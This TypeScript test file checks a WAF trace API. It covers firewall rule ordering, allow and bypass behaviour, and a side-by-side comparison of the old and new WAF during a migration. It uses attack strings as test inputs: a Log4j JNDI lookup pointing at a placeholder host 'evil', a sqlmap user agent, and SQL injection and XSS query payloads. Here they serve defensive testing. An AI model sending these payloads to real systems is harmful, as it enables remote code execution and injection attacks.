/**
 * `POST /zones/{zone_id}/trace` over HTTP: firewall rules (order, log, bypass, terminating actions),
 * the previous WAF, the new WAF, and both side by side in validation mode, which is what shows a
 * user what a migration changes before finishing it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Ids, codes, configOf, entrypointPath, execute, result, startWafKit, withoutServerFields, type WafKit } from '../migration/kit.js';

let kit: WafKit;
let n = 0;
beforeAll(async () => { kit = await startWafKit(); });
afterAll(async () => { await kit.h.cleanup(); });
const zone = (plan: 'free' | 'pro' | 'business' | 'enterprise' = 'enterprise', waf?: 'new') => kit.zone(`t${++n}.example`, plan, waf);

const log4j = { url: 'https://t.example/', headers: { 'X-Api-Version': '${jndi:ldap://evil/a}' } };
const scanner = { method: 'GET', host: 't.example', path: '/', headers: { 'User-Agent': 'sqlmap/1.7.2' } };
const trace = async (z: string, body: unknown): Promise<any> => result(await kit.trace(z, body));

describe('firewall rules', () => {
  it('report matches in evaluation order, log and bypass go on, the first terminating rule decides', async () => {
    const z = await zone();
    const rules = result<{ id: string }[]>(await kit.api('POST', `/zones/${z}/firewall/rules`, [
      { action: 'block', priority: 20, description: 'admin', filter: { expression: 'http.request.uri.path eq "/admin"' } },
      { action: 'log', priority: 10, filter: { expression: 'http.request.uri.path contains "/ad"' }, ref: 'watch' },
      { action: 'challenge', priority: 20, filter: { expression: 'ip.src eq 203.0.113.7' } },
      { action: 'block', paused: true, priority: 1, filter: { expression: 'true' } },
    ]));
    const t = await trace(z, { path: '/admin', ip: '203.0.113.7' });
    expect(t.firewall_rules.matched.map((m: { id: string }) => m.id)).toEqual([rules[1]!.id, rules[2]!.id]);
    expect(t.firewall_rules.matched[0]).toEqual({ id: rules[1]!.id, ref: 'watch', action: 'log', priority: 10 });
    expect(t.firewall_rules.rule.id).toBe(rules[2]!.id);
    expect([t.action, t.decided_by, t.waf_state]).toEqual(['challenge', 'firewall_rules', 'previous_only']);
    expect(t.previous_waf.skipped).toContain(`firewall rule ${rules[2]!.id} (challenge) ended the request`);
    const other = await trace(z, { path: '/admin', ip: '198.51.100.1' });
    expect([other.action, other.firewall_rules.rule.id]).toEqual(['block', rules[0]!.id]);
  });

  it('an allow rule ends the firewall rules only: the previous WAF and the new WAF still run (issue 32)', async () => {
    const z = await zone();
    const [allow] = result<{ id: string }[]>(await kit.api('POST', `/zones/${z}/firewall/rules`, [
      { action: 'allow', priority: 1, filter: { expression: 'ip.src eq 192.0.2.50' } },
      { action: 'block', priority: 2, filter: { expression: 'http.request.uri.path eq "/"' } },
    ]));
    // The later firewall rule does not run; the previous WAF does, and blocks.
    expect(await trace(z, { ...log4j, ip: '192.0.2.50' })).toMatchObject({
      action: 'block', decided_by: 'previous_waf', firewall_rules: { action: 'allow', rule: { id: allow!.id } },
    });
    // Nothing later acts: the allow decides.
    expect(await trace(z, { url: 'https://t.example/', ip: '192.0.2.50' })).toMatchObject({ action: 'allow', decided_by: 'firewall_rules' });
    expect(await trace(z, { ...log4j, ip: '192.0.2.51' })).toMatchObject({ action: 'block', decided_by: 'firewall_rules' });
    // The Managed Ruleset deployed: it runs after the allow too.
    const n = await zone('enterprise', 'new');
    result(await kit.api('POST', `/zones/${n}/firewall/rules`, [{ action: 'allow', filter: { expression: 'ip.src eq 192.0.2.50' } }]));
    result(await kit.put(n, { rules: [execute(Ids.managed)] }));
    expect(await trace(n, { ...log4j, ip: '192.0.2.50' })).toMatchObject({ action: 'block', decided_by: 'managed_rules', firewall_rules: { action: 'allow' } });
  });
});

describe('the previous WAF', () => {
  it('blocks Log4j headers at its defaults, and a bypass of waf skips it', async () => {
    const z = await zone('pro');
    const t = await trace(z, log4j);
    expect([t.action, t.decided_by, t.previous_waf.rule.rule_id, t.previous_waf.rule.package]).toEqual(['block', 'previous_waf', '100514', 'CloudFlare']);
    expect(t).not.toHaveProperty('managed_rules');
    result(await kit.api('POST', `/zones/${z}/firewall/rules`, [{ action: 'bypass', products: ['waf'], filter: { expression: 'http.request.uri.path eq "/"' } }]));
    const bypassed = await trace(z, log4j);
    expect([bypassed.action, bypassed.previous_waf.skipped]).toEqual([null, 'a firewall rule bypasses waf (the previous WAF)']);
  });

  it('follows rule modes and the waf setting', async () => {
    const z = await zone('business');
    result(await kit.api('PATCH', `/zones/${z}/firewall/waf/packages/${Ids.cloudflarePackage}/rules/100514`, { mode: 'challenge' }));
    expect((await trace(z, log4j)).action).toBe('challenge');
    result(await kit.api('PATCH', `/zones/${z}/settings/waf`, { value: 'off' }));
    expect(await trace(z, log4j)).toMatchObject({ action: null, previous_waf: { enabled: false } });
  });
});

describe('validation mode: both WAFs, side by side', () => {
  it('shows what the new WAF would change before the migration is finished', async () => {
    const z = await zone('enterprise');
    result(await kit.put(z, withoutServerFields(await configOf(kit, z)), 'waf_migration=validation&phase_two=1'));
    const same = await trace(z, scanner);
    expect(same.waf_state).toBe('both');
    expect([same.managed_rules.action, same.previous_waf.action]).toEqual(['challenge', 'challenge']);
    expect([same.action, same.decided_by]).toEqual(['challenge', 'managed_rules']);

    // Adjust the new configuration: the scanner rule only logs in the new WAF.
    const entry = result<{ rules: any[] }>(await kit.getEntrypoint(z));
    const managed = entry.rules.find((r) => r.action_parameters.id === Ids.managed);
    managed.action_parameters.overrides.rules = managed.action_parameters.overrides.rules.map((o: { id: string }) =>
      o.id === '0242110ae62e44028a13bf4834780914' ? { id: o.id, action: 'log' } : o);
    result(await kit.put(z, { rules: entry.rules }));
    const diff = await trace(z, scanner);
    expect(diff.managed_rules.action).toBe(null);
    expect(diff.managed_rules.matched[0]).toMatchObject({ rule_id: '0242110ae62e44028a13bf4834780914', action: 'log', description: 'Vulnerability scanner activity' });
    expect(diff.managed_rules.owasp).toMatchObject({ score: 5, threshold: 40, exceeded: false });
    expect(diff.previous_waf).toMatchObject({ action: 'challenge', rule: { rule_id: '100532' } });
    expect([diff.action, diff.decided_by]).toEqual(['challenge', 'previous_waf']);

    // After the migration only the new WAF answers.
    result(await kit.put(z, { rules: entry.rules }, 'waf_migration=pending&phase_two=1'));
    const after = await trace(z, scanner);
    expect(after).not.toHaveProperty('previous_waf');
    expect([after.waf_state, after.action, after.managed_rules.matched[0].action]).toEqual(['new_only', null, 'log']);
  });

  it('OWASP: anomaly scores of both versions with the migrated paranoia level and threshold', async () => {
    const z = await zone('enterprise');
    result(await kit.api('PATCH', `/zones/${z}/firewall/waf/packages/${Ids.owaspPackage}`, { sensitivity: 'medium', action_mode: 'block' }));
    result(await kit.put(z, withoutServerFields(await configOf(kit, z)), 'waf_migration=2&phase_two=1'));
    const attack = { path: '/search', query: "id=1 union select 1&x=' or '1'='1&u=javascript:alert(1)&i=<img src=x>", headers: { 'User-Agent': 'Mozilla/5.0', Accept: '*/*' } };
    const t = await trace(z, attack);
    expect(t.managed_rules.owasp).toMatchObject({ threshold: 25, paranoia_levels: [1], action: 'block' });
    expect(t.previous_waf.owasp).toMatchObject({ score: 25, threshold: 40, sensitivity: 'medium', exceeded: false });
    expect(t.managed_rules.owasp.score).toBeLessThan(25);
  });
});

describe('the new WAF', () => {
  it('honours skip rules migrated from bypass firewall rules', async () => {
    const z = await zone('pro');
    result(await kit.api('POST', `/zones/${z}/firewall/rules`, [{ action: 'bypass', products: ['waf'], filter: { expression: 'ip.src eq 192.0.2.77' } }]));
    result(await kit.put(z, await configOf(kit, z), 'waf_migration=pending&phase_two=1'));
    const skipped = await trace(z, { ...log4j, ip: '192.0.2.77' });
    expect(skipped.managed_rules).toMatchObject({ action: null, skipped: [{ skip: { ruleset: 'current' } }] });
    expect((await trace(z, { ...log4j, ip: '192.0.2.78' })).managed_rules).toMatchObject({ action: 'block', rule: { rule_id: '5f6744fa026a4638bda5b3d7d5e015dd', description: 'Log4j Headers' } });
  });

  it('accepts an exception placed after the execute rule it names, as the service does, and it skips nothing', async () => {
    const z = await zone('enterprise', 'new');
    const late = [
      execute(Ids.managed),
      { action: 'skip', ref: 'late', expression: 'true', action_parameters: { rulesets: [Ids.managed] } },
      { action: 'skip', ref: 'late-current', expression: 'true', action_parameters: { ruleset: 'current' } },
    ];
    const put = await kit.put(z, { rules: late });
    expect(put.status).toBe(200);
    expect(result<{ rules: { ref: string }[] }>(put).rules.map((r) => r.ref).slice(1)).toEqual(['late', 'late-current']);
    const t = await trace(z, scanner);
    expect([t.action, t.decided_by]).toEqual(['block', 'managed_rules']);
    expect(t.managed_rules.rule).toMatchObject({ rule_id: '0242110ae62e44028a13bf4834780914' });
  });

  it('a zone created new with the Free ruleset deployed', async () => {
    const z = await zone('free', 'new');
    result(await kit.put(z, { rules: [execute(Ids.free)] }));
    const t = await trace(z, log4j);
    expect([t.action, t.decided_by, t.managed_rules.rule.ruleset_id]).toEqual(['block', 'managed_rules', Ids.free]);
    expect((await trace(z, { url: 'https://t.example/' })).action).toBe(null);
  });
});

describe('the request description', () => {
  it('takes url or host/path/query, headers, ip, country, body and catalog fields', async () => {
    const z = await zone('enterprise', 'new');
    result(await kit.put(z, { rules: [{ ...execute(Ids.managed, { overrides: { action: 'log' } }), expression: 'ip.src.country eq "FR" and cf.threat_score gt 10' }] }));
    const body = { method: 'POST', host: 't.example', path: '/api', query: { a: '1' }, body: 'x=${jndi:ldap://e/a}', ip: '198.51.100.4', country: 'FR', fields: { 'cf.threat_score': 40 } };
    const t = await trace(z, body);
    expect(t.managed_rules.matched.map((m: { rule_id: string }) => m.rule_id)).toEqual(['0c054d4e4dd5455c9ff8f01efe5abb10']);
    expect((await trace(z, { ...body, country: 'DE' })).managed_rules.matched).toEqual([]);
  });

  it('refuses bad descriptions with pointers', async () => {
    const z = await zone();
    const bad = await kit.trace(z, { url: 'not a url', fields: { 'no.such.field': 1 }, headers: { a: 3 }, extra: true });
    expect([bad.status, bad.body.errors.map((e) => e.source?.pointer)]).toEqual([400, ['/extra', '/url', '/headers/a', '/fields/no.such.field']]);
    const wrongType = await kit.trace(z, { ip: '1.2.3', fields: { 'ip.src': 'not-an-ip', 'cf.threat_score': 'high' } });
    expect([wrongType.status, wrongType.body.errors.map((e) => [e.code, e.source?.pointer])]).toEqual([400, [[10014, '/ip'], [10014, '/fields/ip.src'], [10014, '/fields/cf.threat_score']]]);
    expect((await kit.api('GET', `/zones/${z}/trace`)).status).toBe(405);
    expect(entrypointPath(z)).toContain(z);
  });
});
